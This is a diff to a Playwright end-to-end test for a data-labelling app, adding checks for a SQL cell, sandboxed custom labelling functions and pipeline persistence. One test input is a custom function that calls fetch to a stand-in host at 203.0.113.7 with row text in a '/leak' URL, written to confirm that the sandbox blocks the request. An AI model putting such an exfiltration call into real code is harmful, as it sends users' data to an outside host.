@@ -3,7 +3,7 @@
 // see their coverage, label two samples, train with softmax, read the histogram, download the results.
 // A screenshot of every step lands in .test-artifacts/; no request may leave 127.0.0.1.
 import assert from 'node:assert/strict';
-import { mkdirSync, readFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, rmSync } from 'node:fs';
 import { after, before, test } from 'node:test';
 import { fileURLToPath } from 'node:url';
 import type { Page } from 'playwright-core';
@@ -61,6 +61,7 @@ async function connect(sourceTestId: string, targetTestId: string) {
 }
 
 before(async () => {
+  rmSync(artifacts, { recursive: true, force: true });
   mkdirSync(artifacts, { recursive: true });
   await createSourceDatabase(ROWS);
   server = await startReef();
@@ -146,6 +147,44 @@ test('from a fresh start to downloaded results, without leaving 127.0.0.1', { ti
   await lengthCell.getByRole('button', { name: 'Save' }).click();
   await lengthCell.getByText('not saved').waitFor({ state: 'detached' });
   await shot('lfs');
+
+  // A SQL cell over the loaded samples and the current votes (Ctrl/Cmd+Enter runs it).
+  await page.getByRole('button', { name: '+ SQL cell' }).click();
+  const sqlCell = page.getByTestId('sql-cell').last();
+  await typeInEditor(sqlCell, 'SQL cell', 'SELECT count(*) AS n FROM votes WHERE has_link = 1');
+  await page.keyboard.press('ControlOrMeta+Enter');
+  await sqlCell.locator('tbody td', { hasText: /^800$/ }).waitFor({ timeout: 60_000 });
+  await shot('sql-cell');
+  await sqlCell.getByRole('button', { name: 'Remove SQL cell' }).click();
+
+  // Custom LF code runs in the sandbox: its votes count, an endless loop is stopped and reported on the cell,
+  // and a request it tries is refused there (the request check at the end would see one that got out).
+  await page.getByRole('button', { name: '+ Custom LF' }).click();
+  const customCell = page.locator('.lf-cell').last();
+  await customCell.getByLabel('LF name').fill('custom_link');
+  await customCell.getByText('preview only · awaiting approval').waitFor();
+  await typeInEditor(customCell, 'Custom LF code', "(row: Row) => (row.text ?? '').includes('http') ? 1 : ABSTAIN");
+  await customCell.getByRole('button', { name: /Run preview/ }).click();
+  // 'http' is in 2 of the 5 spam texts: 400 of 3000 rows.
+  await customCell.getByTestId('lf-stats').getByText('Coverage 13.3%').waitFor({ timeout: 30_000 });
+  await shot('custom-lf');
+  await typeInEditor(customCell, 'Custom LF code', '(row: Row) => { while (row.text !== null) { /* never ends */ } return ABSTAIN; }');
+  await customCell.getByRole('button', { name: /Run preview/ }).click();
+  await customCell.getByRole('alert').getByText(/ran longer than 5 s/).waitFor({ timeout: 30_000 });
+  await shot('custom-lf-endless-loop');
+  await typeInEditor(customCell, 'Custom LF code', "(row: Row) => { (globalThis as any).fetch('http://203.0.113.7/leak?' + row.text); return 1; }");
+  await customCell.getByRole('button', { name: /Run preview/ }).click();
+  await customCell.getByTestId('lf-stats').getByText('Coverage 100.0%').waitFor({ timeout: 30_000 });
+  page.once('dialog', (d) => void d.accept());
+  await customCell.getByRole('button', { name: 'Remove custom_link' }).click();
+  await page.getByTestId('lf-cell-custom_link').waitFor({ state: 'detached' });
+
+  // The graph is saved: a reload restores the pipeline, and the samples come from the browser's cache.
+  await page.getByText('Saved', { exact: true }).waitFor();
+  await page.reload();
+  await page.getByTestId('samples-loaded').getByText(/from cache/).waitFor({ timeout: 60_000 });
+  assert.equal(await page.locator('.react-flow__node').count(), 4, 'four nodes after a reload');
+  assert.equal(await page.locator('.react-flow__edge').count(), 3, 'three edges after a reload');
 
   const browserSection = page.getByRole('region', { name: 'Sample browser' });
   await browserSection.getByTestId('sample-1').getByRole('button', { name: 'SPAM' }).click();
